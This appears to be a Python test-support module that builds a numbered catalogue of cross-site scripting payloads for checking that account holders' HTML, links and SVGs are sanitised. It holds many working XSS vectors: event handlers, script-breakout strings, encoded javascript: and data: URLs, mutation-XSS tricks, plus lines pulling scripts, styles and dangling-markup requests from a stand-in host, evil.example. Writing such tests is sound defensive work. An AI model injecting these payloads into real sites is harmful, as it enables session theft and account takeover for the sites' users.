"""Hostile content of account holders: HTML and addresses that would run scripts where they are not contained."""

import re
from itertools import count, product

import msgspec

from tests.support.hostile_svg import ATTACKS, svg

NUMBER = "NUMBER"
"""In vectors: replaced by the number of the vector, so that the one that ran is known."""
RUN = f"console.log(`ran{NUMBER}`);hostile({NUMBER});fetch(`/canary/{NUMBER}`);alert({NUMBER})"
"""Without spaces and quotation marks, so that it fits into every kind of attribute."""
_ENCODINGS = (
    RUN,
    "".join(letter if letter in NUMBER else f"&#{ord(letter)};" for letter in RUN),
    "".join(f"&#x{ord(letter):05x};" if letter in "(`;" else letter for letter in RUN),
)
_SOME_NUMBER = re.compile(r"[0-9]+(?=[`)]|&#96;|&#41;|&#x000(?:60|29))")
_EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle",
    "onbegin", "onsubmit", "onauxclick", "onbeforetoggle", "\nonerror\n", "/onload",
)  # fmt: skip
_TAGS = (
    "<img src=x {}>", "<svg {}></svg>", "<body {}>", "<details open {}><summary>x</summary></details>",
    "<input autofocus {}>", "<video src=x {}></video>", "<a tabindex=1 href=# {}>x</a>",
    "<div style='animation:x 1s' tabindex=1 {}>x</div>", "<math><mi {}>x</mi></math>", "<marquee {}>x</marquee>",
)  # fmt: skip
_WHOLE = (
    "<script>{}</script>", "<script src='data:text/javascript,{}'></script>", "<SCRIPT>{}</SCRIPT>",
    "</script><script>{}</script>", "</style><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    '"><script>{}</script>', "'><script>{}</script>", "<svg><script>{}</script></svg>",
    "<svg><script href='data:text/javascript,{}'/></svg>", "<math><script>{}</script></math>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src=\"javascript:{}\"></iframe>",
    "<object data=\"javascript:{}\"></object>", "<embed src=\"javascript:{}\">",
    "<object data='data:text/html,<script>{}</script>'></object>", "<a href=\"javascript:{}\">x</a>",
    "<a href=\"JaVaScRiPt:{}\">x</a>", "<a href=\"java\tscript:{}\">x</a>", "<a href=\" javascript:{}\">x</a>",
    "<a href='data:text/html,<script>{}</script>' target=_self>x</a>",
    "<form action=\"javascript:{}\"><button>x</button></form>",
    "<form id=f></form><button form=f formaction=\"javascript:{}\">x</button>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>", "<base target=_top>", "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=import href='https://evil.example/x.html'>", "<link rel=prefetch href='https://evil.example/x'>",
    "<style>@import 'https://evil.example/x.css';@font-face{{font-family:e;src:url(https://evil.example/x.woff)}}"
    "body{{font-family:e}}</style>",
    "<style>*{{behavior:url(x.htc)}}</style>", "<div style=\"width:expression({})\">x</div>",
    "<template><script>{}</script></template>", "<noscript><p title=\"</noscript><script>{}</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<svg><style><img src=x onerror=\"{}\"></style></svg>", "<form><math><mtext></form><form><mglyph><style></math><img"
    " src onerror={}>", "<svg><a xlink:href=\"javascript:{}\"><text>x</text></a></svg>",
    "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>", "<svg><set attributeName=href to=\"javascript:{}\"/></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>{}</script>\"></iframe></foreignObject></svg>",
    "<video><source onerror=\"{}\"></video>", "<audio src=x onerror=\"{}\">", "<keygen autofocus onfocus=\"{}\">",
    "<frameset onload=\"{}\">", "<plaintext><script>{}</script>", "<!--<img src='--><img src=x onerror={}//'>",
    "<div id=chrome></div><form name=parent><input name=postMessage></form><script>{}</script>",
    "</div></section></main></body></html><script>{}</script>", "<script src='https://evil.example/x.js'",
    "<script src='https://evil.example/x.js' data-x=\"", "<img src='https://evil.example/?", "<!-- <script>{}</script>",
    "<textarea>", "<select><option>", "<title>", "<xmp><script>{}</script></xmp>",
    "<portal src='https://evil.example/'></portal>", "<dialog open oncancel=\"{}\">x</dialog>",
    "<a href=/menu ping='https://evil.example/'>x</a>", "<input type=image src=x onerror=\"{}\">",
)  # fmt: skip
_URLS = (
    "javascript:{}", "JAVASCRIPT:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "javascript&colon;{}",
    "data:text/html,<script>{}</script>", "vbscript:{}", "javascript:/*--></title></style></script>*/{}",
    "\x01javascript:{}", "//evil.example/\" onclick=\"{}", "x\" onmouseover=\"{}", "'onclick='{}",
    "/menu#\"><script>{}</script>", "blob:x", "javascript://evil.example/%0a{}", "javascript:%0a{}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>", "data:application/xhtml+xml,<script>{}",
    "data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKDEpPC9zY3JpcHQ+#{}", "javascript\t:{}", "\u00a0javascript:{}",
    "view-source:javascript:{}", "&#106;avascript:{}", "\\x6aavascript:{}", "jar:javascript:{}",
    "https://evil.example\"><img src=x onerror=\"{}", "http:javascript:{}", "/\\evil.example/{}", "//evil.example/{}",
    "https:javascript:{}", "filesystem:javascript:{}", "media:javascript:{}", "tel:javascript:{}",
    "feed:javascript:{}", "mailto:x?body=\"><script>{}",
)  # fmt: skip


class Vectors(msgspec.Struct, frozen=True):
    """Vectors by the kind of place that they are made for. Each has a number of its own in what it would run."""

    html: list[str]
    urls: list[str]
    svgs: list[bytes]

    @property
    def shapes(self) -> set[str]:
        """The vectors without their numbers, to count the different ones."""
        texts = [*self.html, *self.urls, *(each.decode() for each in self.svgs)]
        return {_SOME_NUMBER.sub("", each) for each in texts}


def hostile_vectors() -> Vectors:
    """Every tag with every event handler, plainly and encoded; elements that need none; addresses; and pictures."""
    handlers = [f'{event}="{code}"' for event, code in product(_EVENTS, _ENCODINGS)]
    html = [tag.format(handler) for tag, handler in product(_TAGS, handlers)]
    html += [_with_code(each) for each in _WHOLE]
    numbers = count(1)
    pictures = [svg(each.replace("alert(1)", RUN.replace("`", "'"))).decode() for each in ATTACKS.values()]
    return Vectors(
        html=[each.replace(NUMBER, str(next(numbers))) for each in html],
        urls=[_with_code(each).replace(NUMBER, str(next(numbers))) for each in _URLS],
        svgs=[each.replace(NUMBER, str(next(numbers))).encode() for each in pictures],
    )


def _with_code(text: str) -> str:
    return text.replace("{{", "{").replace("}}", "}").replace("{}", RUN)
